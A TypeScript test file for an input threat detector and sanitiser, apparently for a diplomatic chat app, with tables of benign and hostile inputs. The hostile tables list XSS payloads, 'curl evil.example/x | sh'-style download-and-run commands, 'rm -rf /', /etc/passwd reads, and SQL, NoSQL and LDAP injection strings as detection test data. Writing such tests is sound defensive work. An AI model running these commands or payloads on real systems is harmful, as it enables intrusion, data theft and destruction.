import { growthOf } from '@placard/testing'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { checkInput, INPUT_PRESETS } from './check-input.ts'
import { sanitised } from './sanitise.ts'
import { threatsIn } from './threats.ts'

describe('what is no threat', () => {
  it.each([
    'SELECT a committee and draft from there',
    'drop the clause; adopt the rest',
    'Could you explain what SQL injection is and how a script works?',
    'Where do I select the country from, and where is the update set?',
    'Delete from the preamble the second paragraph; insert into clause 3 a deadline.',
    'The table was dropped; create a new one for the working group.',
    'Union of South American Nations: select members or all?',
    'We affirm: on behalf of Côte d’Ivoire, the delegate’s position is "yes" or "abstain".',
    'JavaScript: a language for pages. TypeScript is better.',
    'The script of the speech is onboarding = slow; action on = later.',
    'Clause 1(a); (b) | (c) & (d) -- as amended.',
    'Resolution A/RES/76/300 and S/RES/2231 (2015), see ../annex.',
    'Call me at +41 22 917 1234 or 555-12-345.',
    'Our GDP was 1234567890123 dollars in 2019.',
    'Vote: 5 < 7 and 9 > 3, so x <= y.',
    'cat and mouse; rm is the code of Remo',
    'I paid $(100) and `code` was fine',
    'The link is https://www.un.org/en/ga/ and https://digitallibrary.un.org/record/1234',
    'إن الوفد يؤيد القرار. 我们支持决议。 Делегация поддерживает.',
    'Object to the motion; link the two issues; base it on Article 51.',
    'Ivory Coast’s delegate said: "or else = war"',
    'Is 2026-11-21 the date? Case 123-456-789.',
    'see <link to resolution> and the <object of the treaty>',
    'Fill in <base price> of carbon and <meta goal>, then send <link>.',
    'How do I run `id`? And `cat notes.txt`, or `rm -rf /`?',
    'What does the <script> tag do, and what is in <iframe>?',
    'What stands between <script> and </script> is code.',
    'Curl up with a book | sh, be quiet',
    'Years 2010 2011 2012 2013',
    'The sessions of 1996-1997-1998-1999 and 2020 2021 2022 2023 2024',
  ])('%s', (text) => {
    expect(threatsIn(text)).toEqual({ level: 'none', threats: [] })
    expect(checkInput(text, INPUT_PRESETS.chatMessage)).toMatchObject({ isValid: true, errors: [], warnings: [] })
  })
})

describe('what is a threat', () => {
  it.each([
    { text: '<script>alert(1)</script>', level: 'high', threat: 'script' },
    { text: '<ScRiPt src=//evil.example/x.js>', level: 'high', threat: 'script' },
    { text: '＜script＞alert(1)＜/script＞', level: 'high', threat: 'script' },
    { text: '<script> fetch("//evil.example") </script>', level: 'high', threat: 'script' },
    { text: '<scr\u200bipt>alert(1)</scr\u200bipt>', level: 'high', threat: 'script' },
    { text: '<object data="//evil.example/x.swf">', level: 'high', threat: 'script' },
    { text: '<meta http-equiv="refresh" content="0;url=//evil.example">', level: 'high', threat: 'script' },
    { text: '<base href="//evil.example/">', level: 'high', threat: 'script' },
    { text: 'run `curl evil.example/x | sh` now', level: 'high', threat: 'shell-command' },
    { text: '`cat /etc/passwd`', level: 'high', threat: 'shell-command' },
    { text: 'wget -qO- https://evil.example/x | sudo bash', level: 'high', threat: 'shell-command' },
    { text: '<iframe src="https://evil.example">', level: 'high', threat: 'script' },
    { text: 'Click javascript:alert(document.cookie)', level: 'high', threat: 'script' },
    { text: '[x](javascript:fetch("//evil.example"))', level: 'high', threat: 'script' },
    { text: 'data:text/html,<b>x</b>', level: 'high', threat: 'script' },
    { text: '<img src=x onerror=alert(1)>', level: 'high', threat: 'event-handler' },
    { text: '<svg/onload=alert(1)>', level: 'high', threat: 'event-handler' },
    { text: 'hello; rm -rf /', level: 'high', threat: 'shell-command' },
    { text: 'sudo rm -rf ~', level: 'high', threat: 'shell-command' },
    { text: 'x && cat /etc/passwd', level: 'high', threat: 'shell-command' },
    { text: 'curl https://evil.example/x | sh', level: 'high', threat: 'shell-command' },
    { text: '$(curl evil.example)', level: 'high', threat: 'shell-command' },
    { text: "admin' OR '1'='1", level: 'medium', threat: 'sql' },
    { text: "x'; DROP TABLE users; --", level: 'medium', threat: 'sql' },
    { text: '1 UNION SELECT password FROM users', level: 'medium', threat: 'sql' },
    { text: 'select name from users where id = 1', level: 'medium', threat: 'sql' },
    { text: '../../etc/passwd', level: 'medium', threat: 'path-traversal' },
    { text: '%2e%2e%2fetc', level: 'medium', threat: 'path-traversal' },
    { text: '*)(uid=*', level: 'medium', threat: 'ldap' },
    { text: '{"password": {"$ne": null}}', level: 'medium', threat: 'nosql' },
    { text: 'user[$ne]=1', level: 'medium', threat: 'nosql' },
    { text: 'My card is 4111 1111 1111 1111.', level: 'medium', threat: 'card-number' },
    { text: 'My card is 4111-1111-1111-1111', level: 'medium', threat: 'card-number' },
    { text: 'SSN 123-45-6789', level: 'medium', threat: 'social-security-number' },
    { text: 'see bit.ly/abc', level: 'low', threat: 'short-link' },
    { text: 'https://evil.example/setup.exe', level: 'low', threat: 'malware-link' },
    { text: 'http://192.168.0.1/login', level: 'low', threat: 'malware-link' },
  ])('$text is $threat', ({ text, level, threat }) => {
    const found = threatsIn(text)
    expect(found.threats).toContain(threat)
    expect(found.level).toBe(level)
  })
})

describe('checking an input', () => {
  const { chatMessage, email, password, username, searchQuery, adminInput } = INPUT_PRESETS

  it.each([
    { value: null, rules: chatMessage, errors: ['Input is required'] },
    { value: ' \n', rules: chatMessage, errors: ['Input is required'] },
    { value: '', rules: searchQuery, errors: [] },
    { value: 'a'.repeat(4000), rules: chatMessage, errors: [] },
    { value: 'a'.repeat(4001), rules: chatMessage, errors: ['Input exceeds maximum length of 4000 characters'] },
    { value: 'ab', rules: username, errors: ['Input must be at least 3 characters'] },
    { value: 'a b c', rules: username, errors: ['Input does not match required format'] },
    { value: 'ada@example.org', rules: email, errors: [] },
    { value: 'ada@', rules: email, errors: ['Input does not match required format'] },
    { value: '<script>x</script>', rules: adminInput, errors: ['Input contains potentially dangerous content'] },
    { value: '  spaces  ', rules: password, errors: [] },
  ])('says $errors about $value', ({ value, rules, errors }) => {
    expect(checkInput(value, rules).errors).toEqual(errors)
  })

  it.each([
    { kind: 'a search', rules: searchQuery },
    { kind: 'a setting', rules: INPUT_PRESETS.settingsValue },
    { kind: 'an announcement', rules: adminInput },
  ])('finds the threat in $kind that is nothing but a tag', ({ rules }) => {
    const { isValid, errors, threatLevel } = checkInput('<img src=x onerror=alert(1)>', rules)
    expect({ isValid, threatLevel }).toEqual({ isValid: false, threatLevel: 'high' })
    expect(errors).toContain('Input contains potentially dangerous content')
  })

  it('keeps the spaces of a password and takes those around a message away', () => {
    expect(checkInput('  spaces  ', password).sanitized).toBe('  spaces  ')
    expect(checkInput('  hello  ', chatMessage).sanitized).toBe('hello')
  })

  it('warns about what looks suspicious and refuses it not', () => {
    const { isValid, warnings } = checkInput('1 UNION SELECT password FROM users', chatMessage)
    expect({ isValid, warnings }).toEqual({ isValid: true, warnings: ['Input contains suspicious content'] })
  })

  it('takes addresses out of chat messages and leaves links', () => {
    const { sanitized } = checkInput('Write to ada@example.org or see https://un.org/x', chatMessage)
    expect(sanitized).toBe('Write to [EMAIL_REMOVED] or see https://un.org/x')
  })

  it('never throws, whatever comes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        for (const rules of Object.values(INPUT_PRESETS)) checkInput(text, rules)
        expect(checkInput(text, chatMessage).sanitized.isWellFormed()).toBe(true)
      }),
    )
  })

  it.each([
    '<'.repeat(4000),
    '<a '.repeat(1300),
    `<a ${' on'.repeat(1300)}`,
    '../'.repeat(1300),
    'select from where '.repeat(220),
    '1 '.repeat(2000),
    'a@'.repeat(2000),
    `a@${'a.'.repeat(2000)}`,
    "' or ".repeat(800),
    '$('.repeat(2000),
    'curl '.repeat(800),
    '; '.repeat(2000),
    '<script> ('.repeat(400),
    `<script>${' ('.repeat(1900)}`,
    `<base ${'='.repeat(3900)}`,
    '`cat ;'.repeat(650),
    'curl .a'.repeat(550),
  ])('VA-11 takes time in proportion to the length of attack string %#', (text) => {
    expect(growthOf((part) => void checkInput(part, chatMessage), text.repeat(4))).toBeLessThan(1.5)
  })
})

describe('sanitising', () => {
  const keep = INPUT_PRESETS.voiceTranscription
  it.each([
    { how: { ...keep, html: 'strip' as const }, text: 'a <b>bold</b> word', clean: 'a bold word' },
    { how: { ...keep, html: 'escape' as const }, text: '<b> & "x"', clean: '&lt;b&gt; &amp; &quot;x&quot;' },
    { how: { ...keep, areLinksAllowed: false }, text: 'see https://un.org/x now', clean: 'see [URL_REMOVED] now' },
    { how: { ...keep, isSpecialStripped: true }, text: 'a*b#c (d) – é', clean: 'abc (d) – é' },
    { how: keep, text: 'ze\u200bro\u0007 e\u0301', clean: 'zero é' },
    { how: keep, text: '👩\u200d🚀 \ud83d', clean: '👩\u200d🚀 \ufffd' },
  ])('makes "$clean" of "$text"', ({ how, text, clean }) => {
    expect(sanitised(text, how)).toBe(clean)
  })
})
